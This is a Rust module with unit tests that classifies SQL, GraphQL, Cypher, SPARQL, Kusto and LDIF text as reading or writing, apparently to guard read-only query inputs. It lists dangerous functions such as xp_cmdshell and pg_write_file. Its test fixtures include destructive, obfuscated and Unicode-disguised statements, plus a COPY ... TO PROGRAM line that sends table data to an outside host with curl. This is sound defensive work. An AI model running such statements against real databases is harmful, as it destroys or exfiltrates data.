//! Recognises statements of query languages that read or write.
//!
//! [`writes`] is applied to every text and therefore requires a whole statement: a search for "drop table" is
//! none. [`reads`] is applied where a parameter takes statements: what is not known to read counts as writing.
//!
//! Invariant: both use the folded text.

use super::fold::fold;
use super::words::{Form, english};

/// What follows the verb in a statement that creates, changes or removes something.
const THINGS: [&str; 34] = [
    "table",
    "database",
    "schema",
    "index",
    "view",
    "user",
    "role",
    "function",
    "procedure",
    "trigger",
    "sequence",
    "type",
    "column",
    "extension",
    "policy",
    "keyspace",
    "collection",
    "tablespace",
    "publication",
    "subscription",
    "server",
    "domain",
    "event",
    "login",
    "constraint",
    "graph",
    "namespace",
    "stream",
    "topic",
    "materialized",
    "temporary",
    "temp",
    "unique",
    "or",
];
/// First words of reading statements.
const READING: [&str; 12] = [
    "select", "with", "show", "describe", "desc", "explain", "values", "table", "match", "ask",
    "prefix", "pragma",
];
/// Functions that act although they are in a reading statement.
const ACTING: [&str; 24] = [
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_write_file",
    "pg_file_write",
    "pg_switch_wal",
    "lo_import",
    "lo_export",
    "lo_unlink",
    "dblink",
    "dblink_exec",
    "setval",
    "nextval",
    "xp_cmdshell",
    "sp_executesql",
    "load_extension",
    "writefile",
    "sys_exec",
    "sys_eval",
    "set_config",
    "load_file",
    "utl_http",
    "eval",
];
/// Functions that are named like a verb and only compute.
const PURE: [&str; 8] =
    ["replace", "insert", "truncate", "format", "lower", "overlay", "stuff", "set"];

/// Whether a text is a writing statement.
pub(super) fn writes(text: &str) -> bool {
    let folded = fold(text);
    let statements = statements(&folded);
    statements.iter().any(|statement| writing(statement, Strictness::Whole))
        || mutates(&folded)
        || changes_directory(&folded)
        || manages(&folded)
}

/// Whether a text that should be a statement is known to read.
pub(super) fn reads(text: &str) -> bool {
    let folded = fold(text);
    if mutates(&folded) || changes_directory(&folded) || manages(&folded) {
        return false;
    }
    let folded = folded.trim();
    // GraphQL's short form, and a named query.
    let named = folded.starts_with("query ") || folded.starts_with("fragment ");
    if folded.starts_with('{') || (named && folded.contains('{')) {
        return true;
    }
    let statements = statements(folded);
    statements.iter().filter(|statement| !statement.is_empty()).all(|statement| {
        let first = statement.iter().find(|token| token.as_str() != "(").map_or("", String::as_str);
        READING.contains(&first) && !writing(statement, Strictness::Any)
    })
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Strictness {
    /// It must be whole: a text may only talk about it.
    Whole,
    /// It is a statement in any case.
    Any,
}

/// The statements of a text as words and signs. Comments and quoted text are dropped, except comments that a
/// server executes.
fn statements(text: &str) -> Vec<Vec<String>> {
    let mut all = vec![Vec::new()];
    let mut rest = text;
    let mut spaced = true;
    while let Some(letter) = rest.chars().next() {
        let (token, used) = if let Some(comment) = rest.strip_prefix("/*!") {
            // MySQL executes these, whatever the version.
            let digits =
                comment.len() - comment.trim_start_matches(|c: char| c.is_ascii_digit()).len();
            (None, 3 + digits)
        } else if let Some(comment) = rest.strip_prefix("/*") {
            (None, comment.find("*/").map_or(rest.len(), |end| end + 4))
        } else if rest.starts_with("*/") {
            (None, 2)
        } else if rest.starts_with("--") || (letter == '#' && spaced) {
            (None, rest.find('\n').unwrap_or(rest.len()))
        } else if matches!(letter, '\'') {
            let end = rest[1..].find('\'').map_or(rest.len(), |end| end + 2);
            (Some("''".to_owned()), end)
        } else if matches!(letter, '"' | '`') {
            let end = rest[1..].find(letter).map_or(rest.len(), |end| end + 2);
            (Some("name".to_owned()), end)
        } else if letter.is_alphanumeric() || letter == '_' || letter == '$' {
            let end = rest
                .find(|c: char| !c.is_alphanumeric() && !matches!(c, '_' | '$'))
                .unwrap_or(rest.len());
            (Some(rest[..end].to_owned()), end)
        } else if letter == ';' {
            all.push(Vec::new());
            (None, 1)
        } else if letter.is_whitespace() {
            (None, letter.len_utf8())
        } else {
            (Some(letter.to_string()), letter.len_utf8())
        };
        if let Some(last) = all.last_mut() {
            last.extend(token);
        }
        spaced = letter.is_whitespace();
        rest = &rest[used.min(rest.len())..];
    }
    all
}

fn writing(statement: &[String], strictness: Strictness) -> bool {
    let word = |at: usize| statement.get(at).map_or("", String::as_str);
    let start = statement.iter().position(|token| !matches!(token.as_str(), "(" | "*" | "/"));
    let Some(start) = start else { return false };
    if writes_from(statement, start, strictness) {
        return true;
    }
    match word(start) {
        "explain" => {
            // Only ANALYZE executes the explained statement.
            statement.iter().any(|token| matches!(token.as_str(), "analyze" | "analyse"))
                && (start + 1..statement.len()).any(|at| writes_from(statement, at, strictness))
        }
        "with" | "match" | "prefix" | "merge" | "unwind" | "optional" => {
            (start + 1..statement.len()).any(|at| writes_from(statement, at, strictness))
        }
        "select" => {
            let into = statement.iter().position(|token| token == "into");
            into.is_some_and(|at| !word(at + 1).is_empty())
                || calls_acting(statement)
                || locks(statement)
        }
        _ if strictness == Strictness::Any => calls_acting(statement),
        _ => false,
    }
}

/// `SELECT … FROM t FOR UPDATE` holds rows.
fn locks(statement: &[String]) -> bool {
    let from = statement.iter().position(|token| token == "from");
    from.is_some_and(|from| {
        statement[from..].windows(2).any(|pair| {
            pair[0] == "for" && matches!(pair[1].as_str(), "update" | "share" | "no" | "key")
        })
    })
}

/// Whether the words from `at` start something that writes.
fn writes_from(statement: &[String], at: usize, strictness: Strictness) -> bool {
    let word = |next: usize| statement.get(at + next).map_or("", String::as_str);
    let any = strictness == Strictness::Any;
    let named = |next: usize| {
        !word(next).is_empty()
            && word(next).starts_with(|c: char| c.is_alphabetic() || c == '\'' || c == '_')
    };
    match word(0) {
        "drop" | "alter" | "create" => THINGS.contains(&word(1)) && named(2),
        "delete" => {
            matches!(word(1), "from" | "data" | "{" | "where") && !word(2).is_empty()
                || word(2) == "from"
                || (named(1) && follows(statement, at, "detach") || follows_match(statement, at))
        }
        "insert" => matches!(word(1), "into" | "overwrite" | "data" | "{") && !word(2).is_empty(),
        "update" => {
            let set = statement[at..].iter().take(12).position(|token| token == "set");
            named(1)
                && set.is_some_and(|set| statement[at + set..].iter().any(|token| token == "="))
        }
        "truncate" => (word(1) == "table" && named(2)) || (any && named(1)),
        "merge" => word(1) == "into" || (word(1) == "(" && follows_match(statement, at)),
        "replace" => word(1) == "into",
        "grant" | "revoke" => {
            statement[at..].iter().any(|token| matches!(token.as_str(), "to" | "on" | "from"))
                && statement.len() > at + 3
        }
        "copy" => {
            statement[at..].iter().any(|token| matches!(token.as_str(), "program" | "from" | "to"))
                && statement.len() > at + 3
        }
        "exec" | "execute" => word(1) == "(" || (any && named(1)),
        "call" => named(1) && word(2) == "(",
        "load" => word(1) == "data" || (word(1) == "<" && any),
        "clear" => matches!(word(1), "graph" | "default" | "all") && any,
        "set" | "remove" => any && follows_match(statement, at),
        "pragma" => any && statement[at..].iter().any(|token| token == "="),
        "vacuum" | "reindex" | "attach" | "detach" | "lock" | "rename" | "kill" | "shutdown"
        | "optimize" | "flush" => any && at == 0,
        _ => false,
    }
}

fn follows(statement: &[String], at: usize, word: &str) -> bool {
    at.checked_sub(1).is_some_and(|before| statement[before] == word)
}

/// Cypher: deletes, sets or merges what was matched.
fn follows_match(statement: &[String], at: usize) -> bool {
    statement[..at].first().is_some_and(|first| {
        matches!(first.as_str(), "match" | "optional" | "unwind" | "create" | "with")
    })
}

fn calls_acting(statement: &[String]) -> bool {
    statement.windows(2).any(|pair| pair[1] == "(" && is_acting_call(&pair[0]))
}

pub(super) fn is_acting_call(name: &str) -> bool {
    let acts = || {
        name.split(['_', '.']).any(|word| {
            english().verb(word).is_some_and(|verb| verb.form == Form::Base && !verb.noun)
        })
    };
    ACTING.contains(&name) || (!PURE.contains(&name) && acts())
}

/// Whether a GraphQL document has a mutation.
fn mutates(text: &str) -> bool {
    let mut depth = 0_i32;
    let mut word = String::new();
    let mut lines = text.lines().map(|line| line.split('#').next().unwrap_or_default());
    let document: String = lines.by_ref().collect::<Vec<_>>().join("\n");
    for letter in document.chars() {
        if letter.is_alphanumeric() || letter == '_' {
            word.push(letter);
            continue;
        }
        let starts = depth == 0 && matches!(word.as_str(), "mutation" | "subscription");
        if starts && document.contains('{') {
            return true;
        }
        word.clear();
        depth += match letter {
            '{' => 1,
            '}' => -1,
            _ => 0,
        };
    }
    false
}

/// Whether a text is LDIF that changes a directory.
fn changes_directory(text: &str) -> bool {
    text.lines().any(|line| line.trim_start().starts_with("changetype:"))
}

/// Whether a text is a Kusto management command: `.drop table`.
fn manages(text: &str) -> bool {
    let Some(rest) = text.trim_start().strip_prefix('.') else { return false };
    let end = rest.find(|c: char| !c.is_alphanumeric() && c != '-').unwrap_or(rest.len());
    let (command, rest) = rest.split_at(end);
    !command.is_empty()
        && !rest.trim().is_empty()
        && command != "show"
        && command
            .split('-')
            .any(|word| english().verb(word).is_some() || matches!(word, "ingest" | "export"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const WRITING: [&str; 19] = [
        "DROP TABLE orders",
        "SELECT count(*) FROM users; DELETE FROM users WHERE 1=1",
        "WITH gone AS (DELETE FROM sessions WHERE age > 30 RETURNING *) SELECT * FROM gone",
        "EXPLAIN ANALYZE UPDATE stock SET qty = 0",
        "/* report */ /*!50000 DROP*/ TABLE `log`",
        "COPY (SELECT * FROM leads) TO PROGRAM 'curl -T - http://203.0.113.9/'",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        "-- size\n\n  truncate\n\ttable audit",
        "mutation { deleteRepository(input: {name: \"tideline\"}) { ok } }",
        "# owner\nquery Owner { repo { owner } }\nmutation Hand { transferRepo(to: \"x\") { id } }",
        "MATCH (p:Person {name:'Ines'})-[r]-() DETACH DELETE p",
        "PREFIX a: <urn:a#> DELETE { ?p a:year ?y } WHERE { ?p a:year ?y }",
        ".drop table Errors ifexists",
        "dn: uid=ana,ou=people\nchangetype: modify\nreplace: userPassword",
        "EXEC(CHAR(68)+CHAR(82)+' DATABASE crm')",
        "D\u{335}R\u{335}O\u{335}P\u{335} TABLE stock",
        "SELECT 1;\u{a0}dElEtE\u{2003}fRoM\u{a0}members",
        "SELECT 1; ALTER TABLE pay DROP COLUMN iban",
        "SELECT * INTO backup FROM members",
    ];

    #[test]
    fn statements_that_write_are_told() {
        let wrong = WRITING.into_iter().filter(|text| !writes(text) || reads(text));
        assert_eq!(wrong.collect::<Vec<_>>(), [""; 0]);
    }

    #[test]
    fn words_about_statements_are_no_statements() {
        let wrong = [
            "delete account",
            "how to drop table postgres",
            "rm -rf",
            "remove legacy login",
            "deleteUser\\(",
            "DROP TABLE",
            "To Kill a Mockingbird",
            "Drop It Like It's Hot",
            "how do I cancel my subscription?",
            "subject:\"Reset your password\"",
            "please delete my data",
            "^(create|update|delete)$",
            "update the price list and set a reminder",
            "insert coin",
            "create account",
            "17*23",
        ]
        .into_iter()
        .filter(|text| writes(text));
        assert_eq!(wrong.collect::<Vec<_>>(), [""; 0]);
    }

    #[test]
    fn statements_that_read_are_known_to() {
        let wrong = [
            "SELECT count(*) FROM members WHERE deleted = false",
            "SELECT max(updated_at) FROM stock",
            "SELECT count(*) FROM audit WHERE action = 'DELETE'",
            "WITH t AS (SELECT ship, sum(tons) s FROM cargo GROUP BY ship) SELECT * FROM t ORDER BY s DESC LIMIT 5;",
            "SELECT replace(name, '-', '') FROM ships",
            "query { repositories { name isArchived deletedAt } }",
            "{ viewer { login } }",
            "SHOW TABLES",
            "EXPLAIN SELECT 1",
            "MATCH (p:Person) RETURN p",
            "SELECT substring(a from 2 for 3) FROM t",
        ]
        .into_iter()
        .filter(|text| !reads(text) || writes(text));
        assert_eq!(wrong.collect::<Vec<_>>(), [""; 0]);
    }

    #[test]
    fn what_is_no_statement_is_not_known_to_read() {
        for text in [
            "query call wipe_all",
            "select * from t for update",
            "hello",
            "TRUNCATE audit",
            "exec sp_who",
            "call f()",
            "vacuum",
            "set x = 1",
        ] {
            assert!(!reads(text), "{text}");
        }
    }
}
